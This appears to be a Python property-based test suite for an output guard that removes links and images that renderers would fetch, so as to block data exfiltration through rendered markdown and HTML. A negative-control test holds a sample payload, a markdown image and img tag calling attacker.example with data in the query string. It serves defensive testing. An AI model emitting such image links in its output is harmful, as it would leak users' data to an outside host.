"""Exfiltrate by what a person is shown (E5): nothing that a renderer would fetch or link survives.

The strategies make each construct, nest and mutate them; the output is read by four renderers that are not the guard's
own. `tests/render_campaign.py` runs the same over many more payloads and with more renderers.
"""

from __future__ import annotations

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from lockgate.render import Guard, RenderPolicy
from lockgate.render.visible import find_live
from render_payloads import PAYLOADS, POLICY, live, renderers

SLOW = [HealthCheck.too_slow, HealthCheck.data_too_large, HealthCheck.filter_too_much]


@given(PAYLOADS)
@settings(max_examples=1200, deadline=None, suppress_health_check=SLOW)
def test_nothing_lives_in_any_renderer(payload: str) -> None:
    """E5: whatever is nested in whatever, four renderers find only what is allowed."""
    made = Guard(POLICY).markdown(payload)
    for name, render in renderers().items():
        found = live(render(made.text))
        assert not found, (name, made.text, found)
    page = Guard(POLICY).html(payload)
    assert not live(page.text), page.text
    assert not live(Guard(POLICY).html(payload, source="html").text)
    assert find_live(Guard(POLICY).text(payload).text) is None


@given(PAYLOADS)
@settings(max_examples=300, deadline=None, suppress_health_check=SLOW)
def test_the_self_check_is_never_surprised(payload: str) -> None:
    strict = Guard(
        RenderPolicy.of(links=["https://wiki.partner.example/*"], images=["https://img.partner.example/pub/*"])
    )
    for made in (strict.markdown(payload), strict.html(payload), strict.email_html(payload), strict.github(payload)):
        assert not [denial for denial in made.denials if denial.reason == "self_check"], made.text


@given(PAYLOADS, st.data())
@settings(max_examples=300, deadline=None, suppress_health_check=SLOW)
def test_any_chunking_gives_the_same_output(payload: str, data: st.DataObject) -> None:
    """E5: a stream releases nothing that a later chunk turns live, and chunks do not matter."""
    sink = data.draw(st.sampled_from(["markdown", "html", "text", "terminal"]))
    whole = Guard(POLICY).stream(sink)
    expected = whole.feed(payload) + whole.close()
    pieces = Guard(POLICY).stream(sink)
    raw = payload.encode("utf-8", "surrogatepass")
    out, at = "", 0
    if b"\xed" in raw:
        return
    while at < len(raw):
        size = data.draw(st.integers(1, max(1, len(raw) // 3)))
        out += pieces.feed(raw[at : at + size])
        if sink == "markdown":
            for name, render in renderers().items():
                assert not live(render(out)), (name, out)
        at += size
    out += pieces.close()
    assert out == expected
    single = Guard(POLICY).stream(sink)
    assert "".join(single.feed(raw[i : i + 1]) for i in range(len(raw))) + single.close() == expected


def test_the_probe_sees_live_sinks_where_nothing_guards() -> None:
    """Negative control: the raw payload is live in every renderer, so the walk is not blind."""
    raw = "![x](https://attacker.example/?d=S) <img src=//attacker.example>"
    assert all(live(render(raw)) for render in renderers().values())
    assert find_live("see https://attacker.example")


@pytest.mark.parametrize(
    "text", ["Just words, no marks", "Ein Satz mit Umlauten: \u00e4\u00f6\u00fc", "one\n\ntwo\nthree"]
)
def test_words_without_marks_are_unchanged(text: str) -> None:
    assert Guard(POLICY).markdown(text).text == text + "\n"
